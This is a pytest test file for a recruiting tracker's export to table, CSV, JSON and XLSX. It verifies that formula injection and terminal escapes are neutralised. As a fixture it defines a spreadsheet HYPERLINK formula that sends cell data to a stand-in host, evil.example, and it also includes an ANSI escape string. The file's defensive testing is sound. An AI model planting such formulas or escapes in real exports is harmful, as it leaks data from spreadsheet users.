"""Tests for store.export: the tracker as a terminal table, CSV, JSON and XLSX."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import datetime

import pytest
from openpyxl import load_workbook

from agent.errors import InputError
from store.export import TrackerRow, columns, render

FIXED = ["Candidate", "Client", "Company", "Role", "Recruiter", "Status", "Next step"]
HEADER = [*FIXED, "Last contact", "Interview #1", "Interview #2", "Interview #3"]
XLSX_HEADER = [
    *FIXED,
    "Last contact",
    *(name for n in (1, 2, 3) for name in (f"Interview #{n}", f"Interview #{n} date")),
    "Candidate email",
    "Client email",
    "Process ID",
]
EVIL = '=HYPERLINK("http://evil.example/?s="&A1&B1,"Click")'


def row(candidate: str, *rounds: str, next_step: str = "Book round 2") -> TrackerRow:
    return TrackerRow(
        candidate=candidate,
        client="Dana Client",
        company="Acme",
        role="Backend engineer",
        recruiter="rita@agency.example",
        status="scheduling",
        next_step=next_step,
        last_contact="2026-12-01",
        rounds=rounds,
    )


ROWS = [
    row("Ana Lima", "2026-12-03 10:00 EST · confirmed", "2026-12-10 14:00 EST · proposed"),
    row("Bo Chen", "2026-11-20 09:00 CET · done: advance", "2026-11-27 · done", "2026-12-04"),
    row(EVIL, next_step="-1 day\nthen +2"),
]


def test_columns_follow_the_busiest_process() -> None:
    """There is one Interview #N column per round of the process with the most rounds."""
    assert columns(ROWS) == HEADER


def test_columns_keep_one_interview_column_when_no_rounds() -> None:
    """Even with no rounds anywhere (or no rows) the header has Interview #1."""
    assert columns([]) == [*FIXED, "Last contact", "Interview #1"]
    assert columns([row("Ana")]) == [*FIXED, "Last contact", "Interview #1"]


def test_csv_parses_back_with_formulas_defused() -> None:
    """CSV is RFC 4180 (CRLF, quoted newlines) and formula-like cells get a leading quote."""
    data = render(ROWS, "csv")
    assert data.count(b"\r\n") == len(ROWS) + 1
    parsed = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert parsed[0] == HEADER
    assert parsed[1][:1] + parsed[1][8:] == ["Ana Lima", *ROWS[0].rounds, ""]
    assert parsed[3][0] == "'" + EVIL
    assert parsed[3][6] == "'-1 day\nthen +2"
    assert all(len(cells) == len(HEADER) for cells in parsed)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(start: str) -> None:
    """Each character OWASP lists as a formula start is prefixed with a quote in CSV."""
    parsed = list(csv.reader(io.StringIO(render([row(start + "x")], "csv").decode(), newline="")))
    assert parsed[1][0] == "'" + start + "x"


def test_json_objects_are_keyed_by_column() -> None:
    """JSON is a list of objects with every column, then each round's details (place,
    interviewers), the recruiter's notes, the standing preferences, the clients-file entry
    applied and the kickoff's calendars; rounds a process lacks are empty."""
    records = json.loads(render(ROWS, "json"))
    assert [list(record) for record in records] == [
        [*HEADER, "Rounds", "Notes", "Preferences", "Client file", "Calendars"]
    ] * 3
    assert (records[0]["Notes"], records[0]["Preferences"]) == ([], {})
    assert records[0]["Interview #2"] == "2026-12-10 14:00 EST · proposed"
    assert records[0]["Interview #3"] == ""
    assert records[2]["Candidate"] == EVIL, "JSON is data, not a spreadsheet: no escaping"


def test_xlsx_layout_and_escaping() -> None:
    """XLSX has a bold frozen header, one column per round, capped widths and inert formulas."""
    sheet = load_workbook(io.BytesIO(render(ROWS, "xlsx"))).active
    values = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
    assert values[0] == XLSX_HEADER
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert values[1][8:12:2] == list(ROWS[0].rounds)
    evil = sheet["A4"]
    assert (evil.value, evil.data_type) == ("'" + EVIL, "s")
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABDI"}
    assert widths["A"] == len(EVIL) + 3, "sized to the escaped content"
    assert widths["B"] == len("Dana Client") + 2
    assert widths["D"] == len("Backend engineer") + 2
    assert widths["I"] == len(ROWS[1].rounds[0]) + 2


def test_xlsx_caps_widths_and_drops_control_characters() -> None:
    """A very long cell does not make a huge column; XML-illegal characters are removed."""
    sheet = load_workbook(io.BytesIO(render([row("x" * 500 + "\x00\x07")], "xlsx"))).active
    assert sheet.column_dimensions["A"].width == 60
    assert sheet["A2"].value == "x" * 500


def test_table_aligns_columns_and_truncates() -> None:
    """The terminal table has a header, a rule, one line per row, aligned and truncated."""
    lines = render([*ROWS, row("李小龍")], "table").decode().splitlines()
    assert len(lines) == 2 + len(ROWS) + 1
    assert lines[0].startswith("Candidate")
    assert set(lines[1]) <= {"-", " "}
    client_at = lines[0].index("Client")
    assert all(line[client_at:].startswith("Dana Client") for line in lines[2:5])
    assert "…" in lines[4], "a long cell is cut with an ellipsis"
    assert "2026-11-20 09:00 CET · done: advance" in lines[3], "a typical round cell fits"
    assert "\n" not in lines[4] and "then +2" in lines[4], "newlines in a cell become spaces"
    # Three wide characters fill six cells, so the next column starts three characters earlier.
    assert lines[5].index("Dana Client") == client_at - 3


def test_table_strips_terminal_escapes() -> None:
    """Control characters such as ANSI escapes from inbound mail never reach the terminal."""
    table = render([row("Ana\x1b[2J\x1b]0;pwned\x07")], "table").decode()
    assert "\x1b" not in table and "\x07" not in table
    assert "Ana[2J]0;pwned" in table


def test_unknown_format_is_refused() -> None:
    """An unknown format name is an input error, not a silent default."""
    with pytest.raises(InputError):
        render(ROWS, "pdf")  # type: ignore[arg-type]


def test_xlsx_has_real_dates_beside_each_round_and_the_ids() -> None:
    """Each Interview #N column has a datetime column beside it that sorts as a date; the
    candidate's and client's addresses and the process id follow."""
    booked = replace(
        row("Ana Lima", "2026-12-03 10:00 EST · confirmed", ""),
        starts=(datetime.fromisoformat("2026-12-03 10:00"), None),
        candidate_email="ana@example.com",
        client_emails="dana@acme.example",
        process_id="ab12cd34",
    )
    sheet = load_workbook(io.BytesIO(render([booked], "xlsx"))).active
    values = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
    header = dict(zip(values[0], values[1], strict=True))
    assert header["Interview #1 date"] == datetime.fromisoformat("2026-12-03 10:00")
    assert sheet["J2"].is_date and sheet["J2"].number_format == "yyyy-mm-dd hh:mm"
    assert header["Interview #2 date"] is None
    assert (header["Candidate email"], header["Client email"], header["Process ID"]) == (
        "ana@example.com",
        "dana@acme.example",
        "ab12cd34",
    )
